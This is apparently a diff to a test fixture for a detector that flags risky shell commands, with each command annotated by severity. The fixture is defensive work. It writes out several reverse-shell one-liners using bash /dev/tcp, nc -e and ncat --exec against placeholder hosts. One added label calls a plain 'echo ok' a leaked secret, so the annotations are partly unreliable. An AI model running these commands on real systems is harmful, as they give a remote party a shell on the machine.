@@ -3,6 +3,7 @@ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
 sh -i > /dev/tcp/10.0.0.1/4444
 #^^^^ critical: hands a shell of this machine to whoever is at the other end
 echo ok > /dev/tcp/10.0.0.1/22
+#^^^^^^ high: sends a secret of this machine away [secret-sent]
 nc -e /bin/sh 10.0.0.1 4444
 #^^^^^^^^^^^^^^^^^^^^^^^^^^ critical: hands a shell of this machine to whoever is at the other end
 ncat --exec "/bin/bash" example.org 4444
